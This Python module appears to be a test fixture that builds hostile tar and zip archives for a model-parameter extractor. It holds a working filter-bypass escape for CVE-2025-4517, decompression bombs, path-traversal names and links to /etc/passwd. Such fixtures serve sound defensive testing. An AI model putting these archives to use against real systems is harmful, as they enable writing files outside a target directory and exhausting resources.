"""Hostile archives, built on demand: the large ones take a second."""

from __future__ import annotations

import gzip
import io
import stat
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from functools import cache

PARAMS = "image-classification-0001.params"
VICTIM = "victim"


def tar(*members: tarfile.TarInfo, kind: int = tarfile.PAX_FORMAT) -> bytes:
    """A tar archive of members full of zeros, of which 4 KiB at most are there whatever their headers say."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=kind) as packed:
        for member in members:
            packed.addfile(member, io.BytesIO(bytes(min(member.size, 4096))))
    return buffer.getvalue()


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", **headers: str) -> tarfile.TarInfo:
    made = tarfile.TarInfo(name)
    made.type, made.linkname, made.pax_headers = kind, link, headers
    return made


def escaping(above: int) -> bytes:
    """Write `VICTIM`, so many directories above the target, by CVE-2025-4517: 1.4 KB that pass tarfile's data filter.

    Sixteen links to directories with long names make a path that `realpath` cannot resolve to its end, so that the
    filter takes the link at its end, which leads back to the target, for a plain name.
    """
    letters = "abcdefghijklmnop"
    members, deep = [], ""
    for letter in letters:
        members += [member(deep + "d" * 247, tarfile.DIRTYPE), member(deep + letter, tarfile.SYMTYPE, "d" * 247)]
        deep += "d" * 247 + "/"
    blind = f"{'/'.join(letters)}/{'l' * 254}"
    members.append(member(blind, tarfile.SYMTYPE, "../" * len(letters)))
    members.append(member("way", tarfile.SYMTYPE, f"{blind}/{'../' * above}".rstrip("/")))
    members.append(member(f"way/{VICTIM}"))
    return gzip.compress(tar(*members))


def _long_header(kind: bytes) -> bytes:
    """A header that announces a name of 100 million bytes, which gzip packs into some hundred thousand."""
    made = member("././@LongLink", kind)
    made.size = 100 << 20
    return gzip.compress(made.tobuf(tarfile.GNU_FORMAT) + bytes(100 << 20), 1)


def _sized(size: bytes) -> bytes:
    """A file whose header holds another size, under a right checksum."""
    block = bytearray(member(PARAMS).tobuf(tarfile.USTAR_FORMAT))
    block[124:136] = size
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return gzip.compress(bytes(block) + bytes(4096))


def _sparse(**headers: str) -> bytes:
    return gzip.compress(tar(member(PARAMS, **{f"GNU.sparse.{name}": value for name, value in headers.items()})))


TARS: dict[str, Callable[[], bytes]] = {
    "an escape by CVE-2025-4517": lambda: escaping(1),
    "a long name of 100 million bytes": lambda: _long_header(tarfile.GNUTYPE_LONGNAME),
    "a long link of 100 million bytes": lambda: _long_header(tarfile.GNUTYPE_LONGLINK),
    "an extended header of 100 million bytes": lambda: _long_header(tarfile.XHDTYPE),
    "a global header of 100 million bytes": lambda: _long_header(tarfile.XGLTYPE),
    "an extended header of 70,000 bytes": lambda: gzip.compress(tar(member(PARAMS, comment="x" * 70_000))),
    "zeros after the last file": lambda: gzip.compress(tar(member("x")) + bytes(100 << 20), 1),
    "a second part of zeros": lambda: gzip.compress(tar(member("x"))) + gzip.compress(bytes(100 << 20), 1),
    "a file of zeros": lambda: gzip.compress(_zeros(100 << 20) + bytes((100 << 20) + 1024), 1),
    "a sparse file": lambda: _sparse(major="1", minor="0", realsize=str(8 << 40)),
    "a sparse file with a map that is none": lambda: _sparse(map="a,b", size="1"),
    "a sparse file as GNU once had it": lambda: gzip.compress(tar(member(PARAMS, tarfile.GNUTYPE_SPARSE))),
    "a link to a file": lambda: gzip.compress(tar(member(PARAMS, tarfile.SYMTYPE, "/etc/passwd"))),
    "a link within the archive": lambda: gzip.compress(tar(member("x"), member(PARAMS, tarfile.SYMTYPE, "x"))),
    "a hard link": lambda: gzip.compress(tar(member(PARAMS, tarfile.LNKTYPE, "../../etc/passwd"))),
    "a device": lambda: gzip.compress(tar(member(PARAMS, tarfile.CHRTYPE))),
    "a named pipe": lambda: gzip.compress(tar(member(PARAMS, tarfile.FIFOTYPE))),
    "a kind that nobody knows": lambda: gzip.compress(tar(member(PARAMS, b"Z"))),
    "the beginning of gzip": lambda: b"\x1f\x8b\x08",
    "nothing": lambda: b"",
    "gzip of nothing": lambda: gzip.compress(b""),
    "a tar archive without gzip": lambda: tar(member(PARAMS)),
    "a size that is no number": lambda: _sized(b"zzzzzzzzzzz\0"),
    "a size below zero": lambda: _sized(b"\xff" * 12),
    "a size beyond all disks": lambda: _sized(b"\x80" + b"\xff" * 11),
    "a size of eight million million bytes": lambda: gzip.compress(tar(member(PARAMS, size=str(8 << 40)))),
    "an extended size that is no number": lambda: gzip.compress(tar(member(PARAMS, size="-1"))),
    "a file twice": lambda: gzip.compress(tar(member(PARAMS), member(f"./{PARAMS}"))),
    "a file in a file": lambda: gzip.compress(tar(member("x"), member("x/y"))),
    "one name for all": lambda: gzip.compress(_global("path", PARAMS) + tar(member("x"))),
    "a checksum that is wrong": lambda: gzip.compress(tar(member(PARAMS)).replace(b"0000644", b"0000755", 1)),
    "a name that ends early": lambda: gzip.compress(tar(member("x", path=f"{PARAMS}\0.txt"))),
    "a directory in a directory, 2,000 times": lambda: gzip.compress(tar(member("d/" * 2_000))),
    "a name of 10,000 letters": lambda: gzip.compress(tar(member("n" * 10_000))),
}
TARS |= {
    f"the name {name}": lambda name=name: gzip.compress(tar(member(name)))
    for name in ("../../x.params", f"/tmp/{PARAMS}", f"a/../../{PARAMS}", "..", "..\\x", "C:x")
}


def _zeros(size: int) -> bytes:
    made = member(PARAMS)
    made.size = size
    return made.tobuf(tarfile.USTAR_FORMAT)


def _global(key: str, value: str) -> bytes:
    return tarfile.TarInfo.create_pax_global_header({key: value})


def zipped(name: str, content: bytes = b"", method: int = zipfile.ZIP_DEFLATED, mode: int = 0, **changes: int) -> bytes:
    """A zip archive of one file; the directory's entry is changed after the file has been written."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as packed:
        entry = zipfile.ZipInfo(name)
        entry.compress_type, entry.external_attr = method, mode << 16
        packed.writestr(entry, content)
        for attribute, value in changes.items():
            setattr(entry, attribute, value)
    return buffer.getvalue()


def _both(first: str, second: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as packed, warnings.catch_warnings(action="ignore"):
        packed.writestr(first, b"1")
        packed.writestr(second, b"2")
    return buffer.getvalue()


def _directory(size: int) -> bytes:
    """An archive whose end record announces a directory of so many bytes, which it has."""
    return bytes(size) + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1, 1, size, 0, 0)


ZIPS: dict[str, Callable[[], bytes]] = {
    "a link": lambda: zipped("link", b"/etc/passwd", mode=stat.S_IFLNK | 0o777),
    "a named pipe": lambda: zipped("pipe", mode=stat.S_IFIFO | 0o666),
    "a file of zeros": lambda: zipped("zeros", bytes(80 << 20)),
    "a file of zeros that says it is small": lambda: zipped("zeros", bytes(80 << 20), file_size=5),
    "a file that says it is larger": lambda: zipped("x", b"small", file_size=5_000),
    "bzip2, which unpacks without measure": lambda: zipped("x", bytes(4 << 20), zipfile.ZIP_BZIP2),
    "LZMA, which unpacks without measure": lambda: zipped("x", bytes(4 << 20), zipfile.ZIP_LZMA),
    "a way of packing that nobody knows": lambda: zipped("x", b"1", compress_type=77),
    "an encrypted file": lambda: zipped("x", b"1", flag_bits=1),
    "a checksum that is wrong": lambda: zipped("x", b"1", CRC=1),
    "a place that is nowhere": lambda: zipped("x", b"1", header_offset=1 << 30),
    "a file twice": lambda: _both("x", "./x"),
    "a file in a file": lambda: _both("x", "x/y"),
    "a name that ends early": lambda: zipped("x_.txt").replace(b"x_.txt", b"x\0.txt"),
    "a directory of 100 million bytes": lambda: _directory(100 << 20),
    "no zip": lambda: b"no zip",
    "nothing": lambda: b"",
    "half of a zip": lambda: zipped("x", bytes(range(256)) * 9)[:-30],
}
ZIPS |= {f"the name {name}": lambda name=name: zipped(name) for name in ("../x", "/tmp/x", "a/../../x", "a\\b", "C:x")}


@cache
def packed(kind: str, name: str) -> bytes:
    """The hostile archive of this name, each built once."""
    return {"tar": TARS, "zip": ZIPS}[kind][name]()
